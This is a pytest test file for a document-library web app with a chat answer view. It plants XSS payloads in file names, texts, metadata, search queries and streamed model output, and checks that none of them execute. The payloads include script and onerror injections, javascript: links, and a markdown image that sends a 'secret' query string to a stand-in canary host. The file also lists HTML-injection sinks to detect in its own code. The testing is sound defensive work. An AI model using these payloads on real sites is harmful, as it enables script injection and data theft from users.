"""What a document, a name, a model or an error says is text: nothing runs, nothing is fetched, nothing leaves."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

import provider as fake
from browsing import ask
from provider import ScriptedProvider
from serving import Running, serving, settled

CANARY = "http://canary.example"
ATTACKS = (
    "<script>alert('x1')</script>",
    f"<img src={CANARY}/a.png onerror=alert('x2')>",
    "\"><svg onload=alert('x3')>",
    "<iframe srcdoc=\"<script>alert('x4')</script>\"></iframe>",
    f"![picture]({CANARY}/b.png?q=secret)",
    "[link](javascript:alert('x5'))",
    f"<style>body{{background:url({CANARY}/c.png)}}</style>",
    f'<link rel=prefetch href="{CANARY}/d">',
    f"<{CANARY}/auto> {CANARY}/plain",
    "</textarea></title><body onload=alert('x6')>",
    "<a href=\"data:text/html,<script>alert('x7')</script>\">x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('x8')>",
)
HARMLESS = """() => ({
  scripts: [...document.scripts].map((one) => one.src).filter((one) => !one.startsWith(`${location.origin}/static/`)),
  handlers: [...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())
    .filter((name) => name.startsWith('on')).length,
  frames: document.querySelectorAll('iframe, object, embed, base, form[action]').length,
  pictures: [...document.images].map((one) => one.src).filter((source) => !source.startsWith('blob:')),
  styles: [...document.querySelectorAll('style')].length,
  links: [...document.links].map((one) => one.href).filter((address) => /^(javascript|data|vbscript):/i.test(address)),
})"""
CLEAN = {"scripts": [], "handlers": 0, "frames": 0, "pictures": [], "styles": 0, "links": []}


def hostile_text(number: int) -> str:
    return f"Sentence {number} is about the harbour crane. " + ATTACKS[number]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A library whose names, texts, titles, metadata and collections are all hostile."""
    with ScriptedProvider() as model:
        settings = {"model": "openai:any", "openai_base_url": model.base_url, "openai_api_key": "none"}
        with serving(tmp_path_factory.mktemp("attacks") / "library", **settings) as running:
            for number, attack in enumerate(ATTACKS):
                hostile_document(running, number, attack)
            yield running, model


def hostile_document(running: Running, number: int, attack: str) -> None:
    name = attack.replace("/", "∕") + (".md" if number % 2 else ".txt")
    body: dict[str, Any] = {
        "filename": name,
        "text": f"# {attack}\n\n{hostile_text(number)}\n",
        "metadata": {attack[:60]: attack},
    }
    if number == 0:
        body["collection"] = "<img src=x onerror=alert('c')>"
    made = running.client.post("/v1/documents", json=body)
    assert made.status_code == 202, made.text
    assert settled(running.client, made.json()["jobs"][0]["id"])["state"] == "ready"


def test_every_view_of_a_hostile_library(attacked: Any, watch: Any) -> None:
    running, _ = attacked
    watched = watch(running)
    page = watched.open("#/library")
    rows = page.locator(".library .document-row .name")
    rows.first.wait_for()
    for index in range(rows.count()):
        page.locator(".library .document-row").nth(index).click()
        page.locator(".panel").get_by_role("button", name="Details").click()
        page.locator(".panel .facts-list").wait_for()
        page.locator(".panel").get_by_role("button", name="Chunks").click()
        page.locator(".panel .chunk").first.wait_for()
        assert page.evaluate(HARMLESS) == CLEAN
    page.goto(f"{running.address}/#/search")
    page.locator("#view-search input").fill("harbour crane <img src=x onerror=alert('q')>")
    page.keyboard.press("Enter")
    page.locator(".hit").first.wait_for()
    for index in range(page.locator(".hit").count()):
        page.locator(".hit").nth(index).click()
        page.locator(".panel .text-viewer").wait_for()
        assert page.evaluate(HARMLESS) == CLEAN
    page.goto(f"{running.address}/#/settings")
    page.get_by_text("Answers this month").wait_for()
    assert page.evaluate(HARMLESS) == CLEAN


@pytest.mark.parametrize("size", [1, 3])
def test_attacks_streamed_in_pieces_stay_words(attacked: Any, watch: Any, size: int) -> None:
    """Cut so that no piece looks like what it becomes together with the next."""
    running, model = attacked
    said = " ".join(
        f"Sentence {number} is about the harbour crane. {attack}\n\n" for number, attack in enumerate(ATTACKS)
    )
    model.script(in_pieces(said, size))
    page = watch(running).open()
    turn = ask(page, "What is said about the harbour crane? <img src=x onerror=alert('q')>")
    assert page.evaluate(HARMLESS) == CLEAN
    assert "<script>alert('x1')</script>" in turn.locator(".answer").inner_text()
    assert turn.locator(".answer a:not(.reference a)").count() == 0
    references = turn.locator(".reference a")
    assert all(link.get_attribute("href").startswith("#/d/") for link in references.all())
    for index in range(min(references.count(), 4)):
        references.nth(index).hover()
        references.nth(index).click()
        page.locator(".panel .text-viewer").wait_for()
        assert page.evaluate(HARMLESS) == CLEAN


def in_pieces(text: str, size: int) -> fake.Action:
    def act(handler: Any, asked: fake.Asked) -> None:
        handler.begin("text/event-stream")
        for place in range(0, len(text), size):
            handler.event({"choices": [{"index": 0, "delta": {"content": text[place : place + size]}}]})
        handler.event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        handler.send(b"data: [DONE]\n\n")

    return act


def test_attacks_in_errors_and_in_names_of_files_that_fail(fresh: Running, watch: Any) -> None:
    page = watch(fresh).open("#/library")
    name = "<img src=x onerror=alert('n')>.txt"
    page.locator(".library-tools button").first.wait_for()
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Add files").click()
    chooser.value.set_files([{"name": name, "mimeType": "text/plain", "buffer": b""}])
    failed = page.locator(".job.failed")
    failed.wait_for()
    assert "onerror" in failed.inner_text() and "has no bytes" in failed.inner_text()
    assert not failed.get_by_role("button", name="Try again").is_visible()  # the same bytes would fail again
    assert page.evaluate(HARMLESS) == CLEAN
    failed.get_by_role("button", name="Dismiss").click()
    failed.wait_for(state="detached")


def test_no_string_is_parsed_as_html_in_our_modules() -> None:
    """The sinks that turn strings into markup or code are not used at all."""
    folder = Path(__file__).parents[2] / "src/footnotes/server/page/modules"
    sinks = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "DOMParser",
        "eval(",
        "new Function",
        "srcdoc",
        "createContextualFragment",
    )
    used = [(path.name, sink) for path in folder.glob("*.js") for sink in sinks if sink in path.read_text()]
    assert used == []
